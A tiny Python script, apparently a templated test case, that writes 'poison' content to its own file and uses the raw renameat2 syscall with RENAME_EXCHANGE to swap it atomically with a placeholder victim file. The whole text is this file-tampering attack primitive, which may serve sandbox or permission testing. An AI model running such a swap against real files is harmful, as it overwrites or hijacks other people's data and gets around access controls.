"""renameat2 swaps its own file for another's."""
import ctypes
open("mine", "w").write("poison, and longer")
ctypes.CDLL(None).syscall(316, -100, b"mine", -100, b"@VICTIM_FILE@", 2)
